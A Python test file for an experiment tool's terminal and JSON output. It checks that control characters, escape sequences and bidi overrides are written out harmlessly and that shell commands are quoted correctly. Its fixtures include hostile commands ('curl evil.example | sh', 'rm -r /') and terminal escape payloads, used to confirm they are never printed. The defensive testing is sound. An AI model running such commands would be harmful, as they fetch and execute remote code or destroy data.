"""What goes to a terminal or into JSON: nothing that steers it, and every letter as it was."""

import json
import os
import shlex
import subprocess
import sys
import unicodedata
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from tenure.experiments.commands.results_lines import results_lines
from tenure.experiments.commands.terminal import command_text, console, failed_lines, folder_command, next_lines
from tenure.experiments.config.documents import Problem
from tenure.experiments.config.printable import code_point, json_text, printable, printable_line, shown
from tenure.experiments.design.point import Point
from tenure.experiments.store.results import Results

FORBIDDEN = {chr(n) for n in (*range(0x20), *range(0x7F, 0xA0), *range(0xD800, 0xE000))} - {"\n", "\t"} | set(
    "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
texts = st.text(st.one_of(st.characters(), st.sampled_from(sorted(FORBIDDEN))))


@given(texts)
def test_what_is_printed_steers_nothing_and_stays_when_printed_again(text: str) -> None:
    told = printable(text)
    assert not set(told) & FORBIDDEN
    assert printable(told) == told
    line = printable_line(text)
    assert not set(line) & (FORBIDDEN | {"\n", "\t"})
    assert line == printable_line(told) and len(line.splitlines()) <= 1


@given(st.text(st.characters(exclude_categories=["Cc", "Cf", "Cs", "Zl", "Zp"])))
def test_letters_of_every_script_stay(text: str) -> None:
    assert printable(text) == printable_line(text) == text


@pytest.mark.parametrize(
    "text", ["हिन्दी", "می\u200cخواهم", "Tiếng Việt", "中文", "a\nb\tc", r"\x1b", "[red]", "👩\u200d👧"]
)
def test_these_stay(text: str) -> None:
    assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("\x1b]52;c;ZXZpbA==\x07", r"\x1b]52;c;ZXZpbA==\x07"),
        ("\x9b2J", r"\x9b2J"),
        ("a\r\nb", "a\\x0d\nb"),
        ("ab\u202ecba", r"ab\u202ecba"),
        ("\udcff.yaml", r"\udcff.yaml"),
    ],
)
def test_these_are_written_out(text: str, told: str) -> None:
    assert printable(text) == told


@given(
    st.recursive(st.none() | st.booleans() | st.integers() | texts, lambda x: st.lists(x) | st.dictionaries(texts, x))
)
def test_json_is_harmless_and_holds_the_same(data: object) -> None:
    text = json_text(data)
    assert text.isascii() and not set(text) & FORBIDDEN
    assert json.loads(text) == json.loads(json.dumps(data))


def test_json_escapes_letters_and_has_no_number_that_is_none() -> None:
    assert (
        json_text({"é": [float("nan"), (1.5, float("inf"))]})
        == '{\n "\\u00e9": [\n  null,\n  [\n   1.5,\n   null\n  ]\n ]\n}'
    )


@pytest.mark.parametrize("encoding", ["cp1252", "ascii", "utf-8"])
def test_an_answer_as_json_reaches_a_reader_whatever_the_pipe(encoding: str) -> None:
    """Each answer is an object with a version; the names come back as they are."""
    script = "from tenure.experiments.commands.command_line import print_json; print_json({data})"
    for data in ({"arms": ["不作为", "שלום", "é", "\udcff"]}, ["不作为", {"a": 1}], []):
        words = [sys.executable, "-c", script.format(data=ascii(data))]
        found = subprocess.run(words, capture_output=True, env={**os.environ, "PYTHONIOENCODING": encoding}, check=True)
        told = json.loads(found.stdout.decode(encoding))
        assert told == {"version": 2, **(data if isinstance(data, dict) else {"items": data})} and not found.stderr


@given(texts, st.integers(3, 80))
def test_a_name_is_shown_short_and_on_one_line(name: str, most: int) -> None:
    told = shown(name, most)
    assert not set(told) & (FORBIDDEN | {"\n", "\t"})
    assert told == f"'{printable_line(name)}'" or "…" in told
    assert len(told) <= 6 * most + 2


@given(st.characters())
def test_a_character_is_named_without_being_printed(character: str) -> None:
    assert code_point(character).startswith(f"U+{ord(character):04X}")
    assert code_point(character).isascii() and unicodedata.name(character, "") in code_point(character)


HOSTILE = "\x1b[31m[red]\u202e"


def test_the_terminal_prints_no_record_as_it_is(tmp_path: Path) -> None:
    points = {"1f": Point(HOSTILE, HOSTILE, 0), "2f": Point("", "a b", 1)}
    about = {"runs": dict.fromkeys(points), "arms": {HOSTILE: {}, "a b": {}}, "replications": 2}
    failed = {
        "1f": {"arm": "x", "replication": 9, "error": f"one\n{HOSTILE}", "command": "curl evil.example | sh"},
        "2f": {"arm": "x", "replication": 9, "error": "", "command": "rm -r /"},
    }
    folder = tmp_path / "it's \x07 here"
    stored = SimpleNamespace(
        folder=folder,
        about=about,
        names=(),
        failed=failed,
        made=0,
        seconds=0.0,
        hash="0f",
        point=points.__getitem__,
        is_looked_at=False,
    )
    results = cast(Results, stored)
    told = "\n".join(failed_lines(results))
    assert not set(told) & FORBIDDEN and "[red]" in told
    assert "curl" not in told and "rm -r" not in told
    command = told.splitlines()[3].strip()
    assert shlex.split(command) == ["tenure", "run", printable(str(folder)), "--only", "a b/1"]
    assert not set("".join(results_lines(results, None, ["tenure", "run", HOSTILE]))) & FORBIDDEN


@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=3))
def test_next_steps_are_harmless_lines_one_each_where_they_fit(steps: list[tuple[str, str]]) -> None:
    lines = list(next_lines(steps))
    assert len(lines) >= len(steps) and not set("".join(lines)) & (FORBIDDEN | {"\n", "\t"})
    if max(len(printable(one)) for step in steps for one in step) < 20:
        assert len(lines) == len(steps)


@given(st.lists(st.text("ab '\"\\ü$", min_size=1, max_size=15), min_size=1, max_size=12))
def test_a_wide_command_fits_and_a_shell_reads_it_as_it_was(words: list[str]) -> None:
    lines = list(next_lines([(command_text(["tenure", *words]), "what it gives")]))
    assert max(map(cell_len, lines)) <= 110
    text = "\n".join(lines).removeprefix("Next").replace("\\\n", "")  # as a shell joins lines
    if len(lines) == 1:
        text = text.removesuffix("what it gives")
    assert shlex.split(text, comments=len(lines) > 1) == ["tenure", *words]


def test_brackets_are_text_on_the_console(capsys: pytest.CaptureFixture[str]) -> None:
    console().print("[red]a[/red] :smile: [/]")
    assert capsys.readouterr().out == "[red]a[/red] :smile: [/]\n"


def test_a_folder_is_never_an_option() -> None:
    assert folder_command("run", Path("-x"), "--only", "a/1") == "tenure run ./-x --only a/1"


def test_a_problem_is_one_harmless_line() -> None:
    problem = Problem(f"{HOSTILE}.yaml", 1, 2, f"there is no '{HOSTILE}'\nat all", "Mend it.")
    assert str(problem) == (r"\x1b[31m[red]\u202e.yaml:1:2: there is no '\x1b[31m[red]\u202e'\nat all. Mend it.")
